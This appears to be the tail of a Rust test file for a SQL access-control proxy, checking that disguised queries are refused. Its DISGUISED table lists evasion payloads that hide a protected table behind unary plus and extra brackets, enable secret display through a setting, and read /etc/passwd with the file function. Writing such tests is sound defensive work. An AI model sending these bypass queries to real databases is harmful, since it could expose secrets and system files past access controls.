        for name in ["input_format_values_interpret_expressions", "input_format_values_deduce_templates_of_expressions"] {
            assert_eq!(heard.parameter(name).as_deref(), Some("0"), "{}", heard.text());
        }
    }
}

/// Names behind signs and second brackets, functions by their bare names, and a setting that uncovers secrets.
const DISGUISED: &[ByBody<'_>] = &[
    (63, "SELECT globalIn((id, t), sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in()((id, t), sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in((id, t), + sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in((id, t), (+ sec.secret)) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (+ sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (+ (sec.secret))", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (((+ sec.secret)) AS x)", 403, "table-not-allowed", "sec.secret"),
    (94, "SELECT 1 SETTINGS format_display_secrets_in_show_and_select = 1", 403, "setting-not-allowed", "format_display_secrets"),
    (124, "SELECT arrayMap(ALL file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(+ file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap()(file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT arrayMap(unheardOf, [1])", 403, "function-not-allowed", "unheardOf"),
    (121, "SELECT arrayMap(addressToLine, [toUInt64(1)])", 403, "function-not-allowed", "addressToLine"),
    (121, "SELECT arrayMap(regionToName, [toUInt32(1)])", 403, "function-not-allowed", "regionToName"),
];

#[tokio::test]
async fn no_name_in_disguise_reaches_the_upstream() {
    let scene = Scene::begin().await;
    let attacks = scene.by_body("analysts", DISGUISED);
    scene.refuses(attacks).await;
}
